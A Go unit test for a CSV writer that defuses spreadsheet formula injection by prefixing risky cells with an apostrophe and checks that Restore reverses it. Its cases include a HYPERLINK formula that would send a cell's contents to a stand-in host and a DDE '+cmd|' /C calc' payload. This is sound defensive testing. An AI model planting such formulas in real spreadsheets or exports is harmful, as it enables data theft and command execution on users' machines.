package csvsafe

import (
	"bytes"
	"encoding/csv"
	"testing"
)

// A cell a spreadsheet would evaluate comes out with a leading apostrophe;
// the others unchanged; Restore gives back what was written.
func TestNeutralisesFormulaCells(t *testing.T) {
	cases := map[string]string{
		`=HYPERLINK("http://x.example/?"&A1,"Bấm")`: `'=HYPERLINK("http://x.example/?"&A1,"Bấm")`,
		"+cmd|' /C calc'!A0":                        "'+cmd|' /C calc'!A0",
		"-2+3":                                      "'-2+3",
		"@SUM(A1:A9)":                               "'@SUM(A1:A9)",
		"\t=1":                                      "'\t=1",
		"\r=1":                                      "'\r=1",
		"Bưu điện Văn hóa xã Ia O":                  "Bưu điện Văn hóa xã Ia O",
		"15000":                                     "15000",
		"'quoted":                                   "'quoted",
		"":                                          "",
	}
	for in, want := range cases {
		var buf bytes.Buffer
		w := NewWriter(&buf)
		if err := w.Write([]string{"a", in}); err != nil {
			t.Fatal(err)
		}
		w.Flush()
		if err := w.Error(); err != nil {
			t.Fatal(err)
		}
		rec, err := csv.NewReader(&buf).Read()
		if err != nil {
			t.Fatalf("%q: %v", in, err)
		}
		if rec[1] != want {
			t.Errorf("%q written as %q, want %q", in, rec[1], want)
		}
		if got := Restore(rec[1]); got != in {
			t.Errorf("Restore(%q) = %q, want %q", rec[1], got, in)
		}
	}
}
